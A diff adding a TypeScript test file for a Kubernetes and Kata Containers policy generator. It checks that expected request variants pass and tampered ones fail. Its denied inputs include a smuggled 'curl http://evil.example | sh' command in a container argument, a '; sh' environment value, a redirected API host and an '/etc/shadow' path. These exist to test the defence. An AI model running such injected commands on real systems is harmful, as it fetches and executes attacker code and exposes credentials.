@@ -1,0 +1,253 @@
+import { expect, test } from "vitest";
+import { CONTAINERD } from "../../../core/policy/derive/runtime";
+import type { PodSource } from "../../../core/policy/derive/source";
+import { type OpenPolicy, openPolicy } from "../../../core/policy/engine";
+import { generatePolicy } from "../../../core/policy/generate";
+import { type ModelledRequest, podRequests } from "../../../core/policy/selfCheck/requests";
+import { PolicyPreset, type PolicySpec } from "../../../core/policy/spec";
+import {
+    type Attack,
+    attacksOn,
+    type Creation,
+    type Exec,
+    mountAt,
+    onCreation,
+    type Storage,
+    storageOf,
+} from "./attacks/attack";
+import { BASELINE, historyBefore, indexOf, inputOf, openAfter, PEER, STRICT } from "./scenario";
+
+const app = onCreation("app");
+const baseline = onCreation("app", BASELINE);
+const peer = onCreation("app", PEER);
+const TERMINATION = "io.kubernetes.container.terminationMessage";
+
+/** The kubelet masks these since 1.34, 1.33.3 and 1.32.7, for each processor: Kubernetes pull request 131018. */
+const THROTTLE = [0, 1, 95].map((index) => `/sys/devices/system/cpu/cpu${index}/thermal_throttle`);
+
+function again(driver: string): (input: Creation) => void {
+    return (input) => {
+        input.storages.push(storageOf(input, driver));
+    };
+}
+
+function withTermination({ OCI }: Creation): void {
+    OCI.Annotations[`${TERMINATION}Path`] = "/dev/termination-log";
+    OCI.Annotations[`${TERMINATION}Policy`] = "FallbackToLogsOnError";
+}
+
+/** The same pod as other nodes and versions ask for it. */
+const VARIANTS: readonly Attack[] = [
+    app("paths of an Intel processor are masked", ({ OCI }) => OCI.Linux.MaskedPaths.push(...THROTTLE)),
+    app("interrupts are masked", ({ OCI }) => OCI.Linux.MaskedPaths.push("/proc/interrupts")),
+    // kata-deploy has containerd pass these on: Kata `tools/packaging/kata-deploy`.
+    app("annotations about the last words", withTermination),
+    baseline("annotations about the last words", withTermination),
+    // Kata `src/runtime/virtcontainers/kata_agent.go`: a storage for each mount.
+    app("a disk for each mount of a volume", again("blk")),
+    app("memory for each mount of a volume", again("ephemeral")),
+    peer("a directory for each mount of a volume", again("local")),
+    baseline("memory for each mount of a volume", again("ephemeral")),
+    app("a disk of the pod's that this container does not mount", (input) => {
+        const disk: Storage = { ...storageOf(input, "blk"), source: "00/other" };
+        disk.mount_point = `/run/kata-containers/sandbox/storage/${Buffer.from(disk.source).toString("base64")}`;
+        input.storages.push(disk);
+    }),
+    // containerd `internal/cri/server/container_execsync.go`: it adds TERM to a command with a terminal.
+    attacksOn<Exec>(
+        STRICT,
+        "ExecProcessRequest",
+        "app",
+        4,
+    )("with a terminal", ({ process }) => {
+        process.Terminal = true;
+        process.Env.push("TERM=xterm");
+    }),
+];
+
+test.each(VARIANTS.map((variant) => [`${variant.on.slice(0, 2).join(" ")}: ${variant.what}`, variant] as const))(
+    "%s is allowed",
+    (_, { scenario, on, change }) => {
+        const policy = openAfter(scenario, historyBefore(scenario, indexOf(scenario, ...on)));
+        const input = inputOf(scenario, ...on);
+        change(input);
+        expect(policy.evaluate(on[0], input)).toMatchObject({ allowed: true });
+    },
+);
+
+const IMAGE = `registry.example/web@sha256:${"1".repeat(64)}`;
+const POLICY: PolicySpec = { preset: PolicyPreset.Strict, imageLock: { [IMAGE]: { entrypoint: ["/web"] } } };
+
+/** A pod of one container, its policy, and the requests that the model has for it. */
+class Small {
+    readonly requests: readonly ModelledRequest[];
+    readonly policy: OpenPolicy;
+
+    constructor(container: object, spec: object = {}, kind: PodSource["kind"] = "Deployment") {
+        const pod: PodSource = {
+            kind,
+            name: "web",
+            spec: { containers: [{ name: "web", image: IMAGE, ...container }], ...spec },
+            path: "spec",
+        };
+        const { text, pod: expected } = generatePolicy(POLICY, { pod, localVolumes: false });
+        if (expected === undefined) {
+            throw new Error("no pod");
+        }
+        this.requests = podRequests(expected);
+        this.policy = openPolicy(String(text));
+    }
+
+    input<T>(name: string, about = "web"): T {
+        return structuredClone(this.requests.find((one) => one.name === name && one.about === about)?.input) as T;
+    }
+
+    /** Whether the container may be created, changed as it says. */
+    creates(change: (input: Creation) => unknown): boolean {
+        const input = this.input<Creation>("CreateContainerRequest");
+        change(input);
+        return this.policy.evaluate("CreateContainerRequest", input).allowed;
+    }
+}
+
+const CLUSTER = [
+    "KUBERNETES_SERVICE_HOST=10.96.0.1",
+    "KUBERNETES_SERVICE_HOST=fd00::1",
+    "KUBERNETES_SERVICE_PORT=443",
+    "KUBERNETES_SERVICE_PORT_HTTPS=443",
+    "KUBERNETES_PORT=tcp://[fd00::1]:443",
+    "KUBERNETES_PORT_443_TCP=tcp://10.96.0.1:443",
+    "KUBERNETES_PORT_443_TCP_PROTO=tcp",
+    "KUBERNETES_PORT_443_TCP_PORT=443",
+    "KUBERNETES_PORT_443_TCP_ADDR=10.96.0.1",
+    "HOSTNAME=web-5d9c-x2x5z",
+];
+const OF_ANOTHER = ["REDIS_SERVICE_HOST=10.96.0.7", "REDIS_SERVICE_PORT_HTTP=80", "REDIS_PORT=tcp://10.96.0.7:80"];
+const AMISS = ["KUBERNETES_SERVICE_HOST=evil.example", "KUBERNETES_SERVICE_PORT=443; sh", "KUBERNETES_HOST=1.2.3.4"];
+
+/** Kubernetes `pkg/kubelet/kubelet_pods.go`, `getServiceEnvVarMap`: the API server's variables are always there. */
+test.each([
+    [true, [...CLUSTER, ...OF_ANOTHER], AMISS],
+    [false, CLUSTER, [...AMISS, ...OF_ANOTHER]],
+])("variables of the cluster where enableServiceLinks is %s", (enableServiceLinks, allowed, denied) => {
+    const pod = new Small({}, { enableServiceLinks });
+    const takes = (variable: string) =>
+        pod.creates(({ OCI }) => {
+            const name = variable.slice(0, variable.indexOf("=") + 1);
+            OCI.Process.Env = [...OCI.Process.Env.filter((other) => !other.startsWith(name)), variable];
+        });
+    expect(denied.filter(takes)).toEqual([]);
+    expect(allowed.filter((variable) => !takes(variable))).toEqual([]);
+});
+
+const API = "https://$(KUBERNETES_SERVICE_HOST):$(KUBERNETES_SERVICE_PORT)";
+const REDIS = "redis://$(REDIS_SERVICE_HOST)";
+const MODE = { name: "MODE", valueFrom: { configMapKeyRef: { name: "settings", key: "mode" } } };
+
+/** The argument as it is written, and as the kubelet hands it on. */
+test.each([
+    [API, "https://10.96.0.1:443", true],
+    [API, "https://[fd00::1]:443", true],
+    [API, "https://evil.example:443", false],
+    [API, "https://1.2.3.4; curl http://evil.example | sh #:443", false],
+    [API, API, false],
+    [REDIS, "redis://10.96.0.7", true],
+    [REDIS, REDIS, true],
+    [REDIS, "redis://evil.example", false],
+    ["$(OTHER)", "$(OTHER)", true],
+    ["$(OTHER)", "", false],
+    ["$(JOB_COMPLETION_INDEX)", "3", true],
+    ["$(JOB_COMPLETION_INDEX)", "$(JOB_COMPLETION_INDEX)", true],
+    ["$(JOB_COMPLETION_INDEX)", "x", false],
+    ["--mode=$(MODE)", "--mode=whatever the ConfigMap says", true],
+    ["--mode=$(MODE)", "whatever", false],
+])("the argument %s as %s is allowed: %s", (written, sent, allowed) => {
+    const inArgs = new Small({ args: [written], env: [MODE] }, {}, "Job");
+    expect(
+        inArgs.creates(({ OCI }) => {
+            OCI.Process.Args[1] = sent;
+        }),
+    ).toBe(allowed);
+});
+
+test("processes are shared with the sandbox container, and the sandbox makes no namespace of its own for them", () => {
+    for (const shareProcessNamespace of [true, false]) {
+        const { policy, input } = bound(new Small({}, { shareProcessNamespace }));
+        const ask = (name: string, about: string, sandbox_pidns: boolean) =>
+            policy.evaluate(name, { ...input<object>(name, about), sandbox_pidns }).allowed;
+        expect(ask("CreateSandboxRequest", "the pod", true)).toBe(false);
+        expect(ask("CreateSandboxRequest", "the pod", false)).toBe(true);
+        expect(ask("CreateContainerRequest", "the sandbox", true)).toBe(false);
+        expect(ask("CreateContainerRequest", "the sandbox", false)).toBe(true);
+        expect(ask("CreateContainerRequest", "web", !shareProcessNamespace)).toBe(false);
+        expect(ask("CreateContainerRequest", "web", shareProcessNamespace)).toBe(true);
+    }
+});
+
+function bound(pod: Small): { policy: OpenPolicy; input: Small["input"] } {
+    return { policy: pod.policy, input: pod.input.bind(pod) };
+}
+
+const VOLUMES = { volumes: [{ name: "data", emptyDir: {} }] };
+
+/** containerd `internal/cri/opts`, `WithMounts`: the root takes part as the mount does. */
+test.each([
+    ["HostToContainer", "rslave", "rshared"],
+    ["Bidirectional", "rshared", "rslave"],
+    ["None", "", "rslave"],
+    [undefined, "", "rshared"],
+])("mountPropagation %s gives the root %s", (mountPropagation, propagation, other) => {
+    const mount = { name: "data", mountPath: "/data", ...(mountPropagation ? { mountPropagation } : {}) };
+    const pod = new Small({ volumeMounts: [mount] }, VOLUMES);
+    const model = pod.input<Creation>("CreateContainerRequest");
+    expect(model.OCI.Linux.RootfsPropagation).toBe(propagation);
+    expect(mountAt(model, "/data").options).toEqual(["rbind", propagation || "rprivate", "rw"]);
+    const takes = (root: string, option: string) =>
+        pod.creates((input) => {
+            input.OCI.Linux.RootfsPropagation = root;
+            mountAt(input, "/data").options = ["rbind", option, "rw"];
+        });
+    expect(takes(propagation, propagation || "rprivate")).toBe(true);
+    expect(takes(propagation, "rprivate")).toBe(true);
+    expect(takes("", "rprivate")).toBe(true);
+    expect(takes(other, "rprivate")).toBe(false);
+    expect(takes("", other)).toBe(false);
+});
+
+test("a slash at the end of a mount path stays, as the kubelet and containerd hand it on", () => {
+    const mounts = [{ name: "config", mountPath: "/etc/web/" }];
+    const pod = new Small({ volumeMounts: mounts }, { volumes: [{ name: "config", configMap: { name: "config" } }] });
+    const model = pod.input<Creation>("CreateContainerRequest");
+    expect(mountAt(model, "/etc/web/").source).toMatch(/-web$/);
+    expect(pod.creates(() => undefined)).toBe(true);
+    expect(pod.policy.evaluate("StartContainerRequest", { container_id: model.container_id }).allowed).toBe(true);
+});
+
+test("a volume may be mounted twice, with a storage for each", () => {
+    const mounts = [
+        { name: "data", mountPath: "/data" },
+        { name: "data", mountPath: "/backup", readOnly: true },
+    ];
+    const pod = new Small({ volumeMounts: mounts }, VOLUMES);
+    expect(pod.creates((input) => input.storages.push(storageOf(input, "blk")))).toBe(true);
+});
+
+test("the last words are read from the file that the pod names, and no other", () => {
+    for (const [given, expected] of [
+        [undefined, "/dev/termination-log"],
+        ["/tmp/last", "/tmp/last"],
+    ]) {
+        const pod = new Small(given === undefined ? {} : { terminationMessagePath: given });
+        const takes = (path: string) =>
+            pod.creates(({ OCI }) => {
+                OCI.Annotations[`${TERMINATION}Path`] = path;
+            });
+        expect(["/dev/termination-log", "/tmp/last", "/etc/shadow"].filter(takes)).toEqual([expected]);
+    }
+});
+
+test("no path that is masked beside those of every node is a file of the container's", () => {
+    const masks = (path: string) => new Small({}).creates(({ OCI }) => OCI.Linux.MaskedPaths.push(path));
+    expect(CONTAINERD.paths.MaskedPaths.every(masks)).toBe(true);
+    expect(["/etc/web", "/sys0/x", "/proc/1/root", "/sys/../etc", "/data/cpu0"].filter(masks)).toEqual([]);
+});
